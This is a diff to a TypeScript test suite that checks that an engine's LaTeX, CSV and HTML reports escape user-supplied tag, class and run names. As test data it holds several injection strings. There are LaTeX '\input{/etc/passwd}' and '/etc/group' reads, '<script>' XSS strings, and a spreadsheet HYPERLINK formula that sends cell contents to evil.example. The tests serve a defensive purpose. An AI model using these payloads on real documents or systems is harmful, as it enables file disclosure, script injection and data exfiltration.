@@ -11,6 +11,7 @@ import { finishJob, openTestEngine } from '../../helpers/engine';
 import { tempDir } from '../../helpers/fixtures';
 import { addSemanticRun, importSemantic, noisyPrediction, randomScene, testRandom, type SemanticFixture } from '../metrics/helpers';
 import { engineInternals } from '../../../src/main/engine/internals';
+import { encodeMask } from '../../../src/main/engine/masks';
 
 const SIZE = { w: 24, h: 16 };
 const HOSTILE = [
@@ -40,6 +41,8 @@ const ROW_START = [
 ];
 /** Each of ROW_START as both reports show it. */
 const ROW_START_SHOWN = ['[-9cm] shifted', '[v2] run', '*starred', 'evil', 'iso mark', 'bell nel end'];
+/** Tag names may hold brackets, stars, backslashes and line breaks (not commas, not a leading space). */
+const HOSTILE_TAGS = ['[1cm]*tag', 'tag\n\\input{/etc/group}<script>x</script>'];
 let t: ReturnType<typeof tempDir>;
 let engine: Engine;
 let client: TesseraClient;
@@ -67,6 +70,16 @@ beforeAll(async () => {
   // Class names head the rows of the per-class table, right after its \\midrule.
   const renameClass = engineInternals(engine).db.prepare('UPDATE classes SET name = ? WHERE dataset_id = ? AND idx = ?');
   ['[3cm]bg', '*one', '\u202Etwo'].forEach((name, idx) => renameClass.run(name, fx.datasetId, idx));
+  // Tags and a corrected image: the per-tag and corrections tables carry run and tag names too.
+  for (const [i, tag] of HOSTILE_TAGS.entries()) await client.call('tags.apply', { tag, imageIds: [fx.samples[i]!.imageId] });
+  const region = engineInternals(engine).repos.annotations.currentForSample(fx.samples[2]!.sampleId)[0]!;
+  engineInternals(engine).repos.annotations.addVersion({
+    annotationId: region.annotationId,
+    rle: encodeMask(new Uint8Array(SIZE.w * SIZE.h), SIZE.h, SIZE.w),
+    area: 0,
+    bbox: [0, 0, 0, 0],
+    source: 'edit',
+  });
 });
 
 afterAll(async () => {
@@ -126,6 +139,13 @@ describe('reports escape every user string', () => {
     );
     // Run comment lines: exactly one per run of each report.
     expect(tex.split('\n').filter((l) => l.startsWith('% run ')).length).toBe(8 + 4);
+    // Tag names in the per-tag table; run names in the per-tag, corrections and per-class wins tables.
+    expect(tex).toContain(
+      '\ntag \\textbackslash{}input\\{/etc/group\\}\\textless{}script\\textgreater{}x\\textless{}/script\\textgreater{} & ',
+    );
+    expect(tex).toContain(' & tex \\textbackslash{}input\\{/etc/passwd\\} & 1 & ');
+    expect(tex).toContain('\ntex \\textbackslash{}input\\{/etc/passwd\\} & imported & ');
+    expect(tex).toContain('\\multicolumn{2}{c}{tex \\textbackslash{}input\\{/etc/passwd\\} vs plain}');
   });
 
   it('LaTeX: a name starting a table row gives \\\\ or \\midrule no argument', async () => {
@@ -138,6 +158,8 @@ describe('reports escape every user string', () => {
     expect(tex).toContain('\n{[}-9cm{]} shifted & ');
     expect(tex).toContain('\n{[}v2{]} run & ');
     expect(tex).toContain('\n{*}starred & ');
+    expect(tex).toContain('\n{[}1cm{]}{*}tag & ');
+    expect(tex).toContain('\n{[}-9cm{]} shifted & imported & ');
     expect(tex).toContain('\n{[}3cm{]}bg & ');
     expect(tex).toContain('\n{*}one & ');
     expect(tex).toContain('% run {[}-9cm{]} shifted: model');
@@ -157,9 +179,11 @@ describe('reports escape every user string', () => {
 
   it('CSV: cells that a spreadsheet would run as formulas start with a quote', async () => {
     const csv = (await report('csv', runIds.slice(0, 8))) + (await report('csv', [runIds[0]!, ...runIds.slice(8)]));
-    const rows = parseCsv(csv).filter((r) => r[0] !== 'dataset');
-    expect(rows.every((r) => r.length === 12)).toBe(true);
-    const runs = new Set(rows.map((r) => r[3]));
+    const [header, ...all] = parseCsv(csv);
+    const rows = all.filter((r) => r[0] !== 'dataset');
+    const col = (name: string): number => header!.indexOf(name);
+    expect(rows.every((r) => r.length === 13)).toBe(true);
+    const runs = new Set(rows.map((r) => r[col('run')]));
     expect(runs).toEqual(
       new Set([
         'plain',
@@ -175,9 +199,9 @@ describe('reports escape every user string', () => {
         '<script>alert(1)</script>&^^J~',
       ]),
     );
-    for (const r of rows) for (const cell of r.slice(0, 11)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    for (const r of rows) for (const cell of r.slice(0, col('value'))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
     // Numbers stay numbers, negative ones too.
-    expect(rows.some((r) => r[7] === 'difference' && /^-?\d/.test(r[11] ?? ''))).toBe(true);
+    expect(rows.some((r) => r[col('metric')] === 'difference' && /^-?\d/.test(r[col('value')] ?? ''))).toBe(true);
     // The formula and the separator-holding names are quoted on disk.
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
     expect(csv).toContain('"a;=1+1"');
@@ -187,6 +211,10 @@ describe('reports escape every user string', () => {
     const html = await report('html', runIds.slice(4, 11));
     expect(html).not.toContain('<script>');
     expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;&amp;');
+    // Tag names (per-tag table) and run names in the new tables are text too.
+    expect(html).toContain('<tr><td>tag \\input{/etc/group}&lt;script&gt;x&lt;/script&gt;</td><td>-2+3</td>');
+    expect(html).toContain('<tr><td>&lt;script&gt;alert(1)&lt;/script&gt;&amp;^^J~</td><td class="num">1</td><td>imported</td>');
+    expect(html).toContain('<th class="num">&lt;script&gt;alert(1)&lt;/script&gt;&amp;^^J~ beat +1+cmd</th>');
     expect(html).toContain(
       `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data:; style-src 'unsafe-inline'">`,
     );
